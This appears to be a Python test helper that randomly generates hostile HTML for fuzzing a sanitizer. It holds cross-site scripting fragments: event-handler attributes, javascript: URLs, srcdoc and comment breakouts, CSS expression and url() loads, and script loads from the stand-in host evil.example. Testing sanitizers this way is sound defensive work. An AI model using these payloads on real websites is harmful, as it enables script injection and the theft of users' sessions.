"""HTML that browsers have been talked into running: elements, attributes, styles and broken spellings, put together by chance."""

from __future__ import annotations

from random import Random

from tests.hostile.addresses import hostile_address

# fmt: off
_ELEMENTS = (
    "a", "abbr", "address", "area", "article", "audio", "b", "base", "bdo", "blockquote", "body", "br", "button",
    "canvas", "caption", "center", "cite", "code", "col", "command", "data", "datalist", "dd", "del", "details", "dialog",
    "div", "dl", "em", "embed", "fieldset", "figure", "font", "form", "frame", "frameset", "h1", "head", "hr", "html",
    "i", "iframe", "image", "img", "input", "isindex", "kbd", "keygen", "label", "legend", "li", "link", "listing",
    "main", "map", "mark", "marquee", "menu", "meta", "meter", "noembed", "noframes", "noscript", "object", "ol",
    "option", "output", "p", "param", "picture", "plaintext", "pre", "progress", "q", "ruby", "s", "script", "section",
    "select", "slot", "source", "span", "strong", "style", "sub", "summary", "table", "tbody", "td", "template",
    "textarea", "tfoot", "th", "title", "tr", "track", "u", "ul", "var", "video", "wbr", "xmp", "x-y", "selectedmenu",
    "portal", "fencedframe", "search", "o:p", "v:shape", "svg:script",
)
_FOREIGN = (
    "svg", "math", "foreignObject", "animate", "set", "use", "image", "feImage", "desc", "title", "mtext", "mi", "mglyph",
    "malignmark", "annotation-xml", "annotation", "maction", "semantics", "style", "script", "a", "text", "path",
    "handler",
)
_HANDLERS = (
    "onabort", "onanimationend", "onanimationstart", "onauxclick", "onbeforeinput", "onbeforetoggle", "onblur",
    "oncanplay", "onchange", "onclick", "onclose", "oncontextmenu", "oncopy", "oncuechange", "ondblclick", "ondrag",
    "ondragstart", "ondrop", "onended", "onerror", "onfocus", "onfocusin", "onformdata", "onhashchange", "oninput",
    "oninvalid", "onkeydown", "onload", "onloadstart", "onmessage", "onmousedown", "onmouseenter", "onmouseover",
    "onpageshow", "onpaste", "onplay", "onpointerdown", "onpointerrawupdate", "onpopstate", "onreset", "onresize",
    "onscroll", "onscrollend", "onsearch", "onselect", "onslotchange", "onstart", "onsubmit", "ontoggle", "ontouchstart",
    "ontransitionend", "ontransitionrun", "onunload", "onwebkitanimationstart", "onwheel", "onbegin", "onrepeat",
    "onfinish", "onx",
)
_ADDRESSED = (
    "href", "src", "srcset", "action", "formaction", "data", "poster", "background", "cite", "ping", "longdesc", "lowsrc",
    "dynsrc", "manifest", "codebase", "xlink:href", "icon", "profile", "usemap", "imagesrcset", "from", "to", "values",
    "content", "code",
)
# fmt: on
_OTHER = (
    'id="headline"',
    'name="body"',
    'class="spoiler quoted"',
    'tabindex="0"',
    "autofocus",
    "contenteditable",
    'style="x"',
    "open",
    'target="_top"',
    'rel="import"',
    'rel="stylesheet"',
    'http-equiv="refresh"',
    'type="image"',
    'is="x-y"',
    'slot="x"',
    "download",
    'attributename="href"',
    'encoding="text/html"',
    'shadowrootmode="open"',
    "popover",
    'form="x"',
    'accesskey="x"',
    "draggable",
    'srcdoc="&lt;script&gt;{0}&lt;/script&gt;"',
    "srcdoc='<img src=x onerror={0}>'",
    'http-equiv=refresh content="0;url=javascript:{0}"',
    'lang="\\"onclick={0}"',
    'title="--><script>{0}</script>"',
    'id="a\\"b"',
    'xmlns="http://www.w3.org/2000/svg"',
    'loading="lazy"',
)
# fmt: off
_RAW = (
    "script", "style", "title", "textarea", "noscript", "iframe", "noembed", "noframes", "xmp", "template", "select",
    "plaintext",
)
# fmt: on
_STYLES = (
    "background:url({0})",
    "background-image:image-set('{0}' 1x)",
    'list-style:url("{0}")',
    "behavior:url({0})",
    "-moz-binding:url({0})",
    "width:expression({1})",
    "@import '{0}'",
    "position:fixed;inset:0;z-index:9",
    "text-align:center;background:u\\72l({0})",
    "text-align:url({0})",
    "cursor:url({0}),auto",
    "content:'</style><script>{1}</script>'",
    "animation:x 1s",
    "text-align:left/**/;}} * {{ color:red",
)
_GAPS = (" ", " ", " ", "\n", "\t", "/", "\x0c", "\r\n", " / ", "\xa0", "\0", "")
_BREAKS = (
    "-->",
    "--!>",
    "]]>",
    "</title>",
    "</style>",
    "</script>",
    "</textarea>",
    '">',
    "'>",
    "`>",
    "\0",
    "<!--",
    "<![CDATA[",
    "<!",
    "<?",
    "</",
    "<",
)


def hostile_html(draw: Random, run: str) -> str:
    """Return some HTML that would call ``run``, load from ``evil.example`` or break out of where it stands."""
    return "".join(_piece(draw, run, draw.randrange(3)) for _ in range(draw.choice((1, 1, 2, 3))))


def hostile_style(draw: Random, run: str) -> str:
    """Return what may stand in a ``style`` attribute or element, with everything in it that loads or runs."""
    return draw.choice(_STYLES).format(draw.choice(("//evil.example/s", "http://evil.example/s", f"javascript:{run}")), run)


def _piece(draw: Random, run: str, depth: int) -> str:
    kind = draw.random()
    if kind < 0.12:
        return draw.choice(_BREAKS) + _element(draw, run, 0)
    if kind < 0.24:
        raw = draw.choice(_RAW)
        return f"<{raw}>{draw.choice(('', '<!--', '<p title=' + chr(34) + f'</{raw}>'))}{_element(draw, run, 0)}</{raw}>"
    if kind < 0.36:
        root = draw.choice(("svg", "math"))
        inside = "".join(f"<{draw.choice(_FOREIGN)}>" for _ in range(draw.randrange(3)))
        return f"<{root}>{inside}{_element(draw, run, 0)}{draw.choice(('', f'</{root}>'))}"
    if kind < 0.44:
        return f"<style>{hostile_style(draw, run)}</style>"
    if kind < 0.52:
        return draw.choice(
            (f"<script>{run}</script>", f"<script\n>{run}</script >", f"<SCRIPT/x>{run}//</SCRIPT>", f"<script>{run}")
        )
    return _element(draw, run, depth)


def _element(draw: Random, run: str, depth: int) -> str:
    name = draw.choice(_ELEMENTS if draw.random() < 0.85 else _FOREIGN)
    name = name.upper() if draw.random() < 0.1 else name
    attributes = "".join(draw.choice(_GAPS) + _attribute(draw, run) for _ in range(draw.choice((1, 1, 2, 3))))
    inside = (
        "".join(_piece(draw, run, depth - 1) for _ in range(draw.randrange(1, 3)))
        if depth > 0
        else draw.choice(("x", "", "&lt;script>"))
    )
    closing = draw.choice((f"</{name}>", f"</{name}>", f"</{name} x=y>", "", "</p>", "/>"))
    return f"<{name}{attributes}{draw.choice(('>', '>', '>', ' >', '/>', chr(10) + '>'))}{inside}{closing}"


def _attribute(draw: Random, run: str) -> str:
    kind = draw.random()
    if kind < 0.4:
        handler = draw.choice(_HANDLERS)
        handler = handler.title() if draw.random() < 0.2 else handler
        called = run.replace("(", "&lpar;").replace(")", "&#41;")
        code = draw.choice((run, run, f"'{run}'", f'"{run}"', f"`{run}`", called, f"{run}//"))
        return f"{handler}{draw.choice(('=', '=', ' = ', chr(10) + '='))}{code}"
    if kind < 0.65:
        quote = draw.choice(('"', "'", ""))
        address = hostile_address(draw, run)
        return f"{draw.choice(_ADDRESSED)}={quote}{address if quote else address.replace(' ', '')}{quote}"
    if kind < 0.75:
        return f'style="{hostile_style(draw, run)}"'
    return draw.choice(_OTHER).replace("{0}", run)
